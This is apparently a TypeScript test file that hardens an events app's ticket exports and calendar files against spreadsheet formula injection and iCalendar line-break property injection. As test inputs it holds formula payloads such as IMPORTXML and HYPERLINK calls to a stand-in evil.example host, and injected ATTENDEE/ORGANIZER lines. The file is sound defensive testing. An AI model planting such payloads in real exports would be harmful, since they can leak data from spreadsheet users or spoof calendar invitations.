import { randomBytes } from "node:crypto";
import { eventLocation } from "@shared/events-calendar";
import fc from "fast-check";
import ICAL from "ical.js";
import { describe, expect, it } from "vitest";
import { eventIcs } from "../../server/modules/events/events.calendar";
import { insertEvent } from "../factories/events";
import { get, post } from "../helpers/api";
import { startFormReceiver } from "../helpers/form-receiver";
import { createTestApp } from "../helpers/test-app";
import { openHardeningWorld } from "./hardening-world";
import { createWorld } from "./world";

/** What leaves the app in other formats: the form service's copy of a ticket, calendar files. */

const suite = openHardeningWorld();

describe("exports start no cell with a formula", () => {
  it("the form service's copy of a ticket has no field opening with = + - @ or a tab", async () => {
    const form = await startFormReceiver();
    const mirrored = await createTestApp({ FORM_MIRROR_URL: form.url, OUTBOX_RETRY_BASE_MS: "20" });
    try {
      const mirroredWorld = await createWorld(mirrored);
      // The administrator may write anything the rules allow into a student's record.
      const edited = await mirrored.app.inject({
        method: "PATCH",
        url: `/api/admin/users/${mirroredWorld.owner.id}`,
        headers: { cookie: mirroredWorld.admin.cookie },
        payload: {
          name: '=HYPERLINK("https://evil.example","Refund")',
          email: `+${randomBytes(4).toString("hex")}@example.in`,
          mobile: "9123456780",
          city: "-Pune",
          college: "@SUM(1+1)",
        },
      });
      expect(edited.statusCode).toBe(200);
      const ticket = await post(
        mirrored,
        "/api/tickets",
        { purpose: "Other", description: '=IMPORTXML("https://evil.example","//a")' },
        { cookie: mirroredWorld.owner.cookie },
      );
      expect(ticket.statusCode).toBe(201);
      const ticketId = ticket.json().ticket.ticketId;
      const deadline = Date.now() + 10_000;
      const copyOf = () =>
        form.received.find((r) => r.fields.some(([n, v]) => n === "ticketId" && v === ticketId));
      while (!copyOf() && Date.now() < deadline) await new Promise((resolve) => setTimeout(resolve, 20));
      const fields = copyOf()?.fields ?? [];
      expect(fields.length).toBe(7);
      const formulas = fields.filter(([, value]) => /^[=+\-@\t\r]/.test(String(value)));
      expect(formulas).toEqual([]);
      expect(Object.fromEntries(fields).description).toBe('\'=IMPORTXML("https://evil.example","//a")');
    } finally {
      await mirrored.close();
      await form.close();
    }
  });
});

describe("calendar files: a line break in a text never starts a property", () => {
  /** Each kind of line break a calendar app might end a line at, CRLF first (it is one break). */
  const BREAKS = ["\r\n", "\r", "\n", "\v", "\f", "\u0085", "\u2028", "\u2029"];
  /** What a text should read as once parsed: every break a newline, no other control left. */
  const readAs = (value: string) =>
    [...value.replaceAll("\r\n", "\n")]
      .map((char) => (BREAKS.includes(char) ? "\n" : char))
      .filter((char) => char === "\n" || char === "\t" || !/\p{Cc}/u.test(char))
      .join("");

  /** The file's VEVENT as ical.js reads it, and its property names. */
  function parsed(ics: string) {
    const vevent = new ICAL.Component(ICAL.parse(ics)).getFirstSubcomponent("vevent");
    if (!vevent) throw new Error("no VEVENT");
    return {
      event: new ICAL.Event(vevent),
      names: vevent.getAllProperties().map((property) => property.name),
    };
  }
  const PROPERTIES = [
    "uid",
    "dtstamp",
    "dtstart",
    "dtend",
    "sequence",
    "status",
    "summary",
    "location",
    "description",
    "url",
  ];
  /** No CR or LF but in CRLF, and no other break at all, anywhere in the file. */
  const hasOnlyCrlfBreaks = (ics: string) =>
    ics
      .split("\r\n")
      .every((line) => !BREAKS.some((lineBreak) => lineBreak !== "\r\n" && line.includes(lineBreak)));

  it("every kind of line break in a stored description comes back as a newline, with no stray property", async () => {
    const description = BREAKS.map(
      (lineBreak, index) => `line ${index}${lineBreak}ATTENDEE:mailto:x@evil.test`,
    ).join("");
    const title = "Fest\rORGANIZER:mailto:boss@evil.test\u2028X-Y:1";
    const event = await insertEvent(suite.testApp, { title, description });
    const response = await get(suite.testApp, `/api/events/${event.id}/calendar.ics`, {
      cookie: suite.world.owner.cookie,
    });
    expect(response.statusCode).toBe(200);
    expect(hasOnlyCrlfBreaks(response.body)).toBe(true);
    const { event: read, names } = parsed(response.body);
    expect(names).toEqual(PROPERTIES);
    expect(read.summary).toBe(readAs(title));
    expect(read.description).toBe(`${readAs(description)}\n\nOrganised by ${event.organizer}.`);
    expect(read.description.split("\n")).toHaveLength(BREAKS.length + 3);
  });

  it("any title, place, description and organiser round-trip through ical.js (property)", async () => {
    const base = await insertEvent(suite.testApp);
    const breaky = fc.oneof(
      fc.string({ unit: "binary" }),
      fc
        .array(
          fc.oneof(fc.constantFrom(...BREAKS, ":", ";", ",", "\\", "\\n", "BEGIN:VEVENT", " "), fc.string()),
        )
        .map((parts) => parts.join("")),
    );
    fc.assert(
      fc.property(breaky, breaky, breaky, breaky, (title, venue, description, organizer) => {
        const ics = eventIcs({ ...base, title, venue, description, organizer }, "http://localhost:3000");
        expect(hasOnlyCrlfBreaks(ics)).toBe(true);
        expect(ics.split("\r\n").every((line) => Buffer.byteLength(line) <= 75)).toBe(true);
        const { event: read, names } = parsed(ics);
        expect(names).toEqual(PROPERTIES);
        expect(read.summary).toBe(readAs(title));
        expect(read.location).toBe(readAs(eventLocation({ ...base, venue })));
        expect(read.description).toBe(`${readAs(description)}\n\nOrganised by ${readAs(organizer)}.`);
      }),
      { numRuns: 300 },
    );
  });
});
